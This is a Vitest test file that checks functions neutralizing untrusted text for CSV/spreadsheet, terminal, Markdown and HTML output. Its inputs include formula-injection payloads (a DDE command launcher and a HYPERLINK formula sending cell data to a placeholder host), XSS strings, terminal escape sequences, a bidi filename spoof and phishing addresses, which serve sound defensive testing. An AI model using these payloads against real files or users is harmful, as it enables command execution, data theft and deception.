import { describe, expect, it } from "vitest";
import { csvField, htmlText, markdownText, spreadsheetText, terminalText } from "../src/_lib/inert.js";

describe("spreadsheetText and csvField", () => {
  it.each(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x"&A1,"点击")', "=cmd|' /C calc'!A0"])("neutralizes %j with a leading apostrophe", (text) => {
    expect(spreadsheetText(text)).toBe(`'${text}`);
  });
  it.each(["\u0000=1+1", "\u0000\u0000=1+41", "\u200b=1+1", "\ufeff+1", " -1", "\u00ad@SUM(A1)", "\u0001\u007f=1"])("neutralizes %j: a formula start behind control, invisible or space characters", (text) => {
    expect(spreadsheetText(text)).toBe(`'${text}`);
    expect(csvField(text)).toBe(`'${text}`);
  });
  it("leaves ordinary text and numbers as they are", () => {
    expect(spreadsheetText("衢州市某某协会")).toBe("衢州市某某协会");
    expect(csvField(-5)).toBe("-5");
    expect(csvField(true)).toBe("true");
    expect(csvField(null)).toBe("");
  });
  it("quotes a field with a comma, quote or line break after neutralizing it", () => {
    expect(csvField('=A1,"x"')).toBe(`"'=A1,""x"""`);
    expect(csvField("a\nb")).toBe('"a\nb"');
  });
});

describe("terminalText", () => {
  // Issue 10, class 4: invisible format characters hide text and shift a table's columns.
  it.each([
    ["\u200b", "\\u200b"],
    ["\u200c", "\\u200c"],
    ["\u200d", "\\u200d"],
    ["\ufeff", "\\ufeff"],
    ["\u00ad", "\\xad"],
    ["\u2060", "\\u2060"],
    ["\u2064", "\\u2064"],
    ["\ufff9", "\\ufff9"],
    ["\ufffb", "\\ufffb"],
    ["\u{e0000}", "\\u{e0000}"],
    ["\u{e0041}", "\\u{e0041}"],
    ["\u{e007f}", "\\u{e007f}"],
  ])("shows the invisible %j escaped", (ch, shown) => {
    expect(terminalText(`协${ch}会`)).toBe(`协${shown}会`);
  });
  it("shows escape sequences, line breaks and bidirectional overrides escaped", () => {
    expect(terminalText("a\u001b[2Jb")).toBe("a\\x1b[2Jb");
    expect(terminalText("x\nverified\r")).toBe("x\\x0averified\\x0d");
    expect(terminalText("\u202egnp.exe")).toBe("\\u202egnp.exe");
    expect(terminalText("\u009b31m")).toBe("\\x9b31m");
  });
  it("leaves Chinese text and ordinary punctuation alone", () => {
    expect(terminalText("基金会（测试）: ok")).toBe("基金会（测试）: ok");
  });
});

describe("markdownText and htmlText", () => {
  it("escapes HTML and the punctuation that starts Markdown constructs", () => {
    expect(markdownText("<script>alert(1)</script>")).toBe("&lt;script&gt;alert(1)&lt;/script&gt;");
    expect(markdownText("[x](javascript:alert(1))")).toBe("\\[x\\](javascript\\:alert(1))");
    expect(markdownText("a\n# forged heading")).toBe("a\\\\x0a\\# forged heading");
    expect(markdownText("| cell |")).toBe("\\| cell \\|");
    expect(markdownText("http://x.example")).toBe("http\\://x.example");
  });
  // Issue 10, class 4: GitHub-flavoured Markdown links plain addresses (extended autolinks: `www.`, an email
  // address); marked (installed with @arethetypeswrong/cli) renders GFM as GitHub does for these.
  it.each(["请访问 www.evil-phish.cn 领取补贴", "联系 admin@evil.cn", "www.evil.com/a?b=1", "quzhou-reference@2023.1", "WWW.EVIL.CN", "(www.x.cn)"])("lets no plain address in %j become a link", async (text) => {
    const escaped = markdownText(text);
    expect(escaped).not.toMatch(/(?<!\\)@|www\./i);
    const { marked } = await import("marked");
    const html = await marked.parse(escaped, { gfm: true });
    expect(html).not.toMatch(/<a /);
    expect(html.replace(/<\/?p>|\n/g, "")).toBe(text.replace(/&/g, "&amp;"));
  });
  it("leaves a colon followed by a space as it is (a problem's `path: message`)", () => {
    expect(markdownText("name: required field is missing")).toBe("name: required field is missing");
  });
  it("escapes HTML's five special characters", () => {
    expect(htmlText(`<a href="x" title='y'>&</a>`)).toBe("&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;");
  });
});
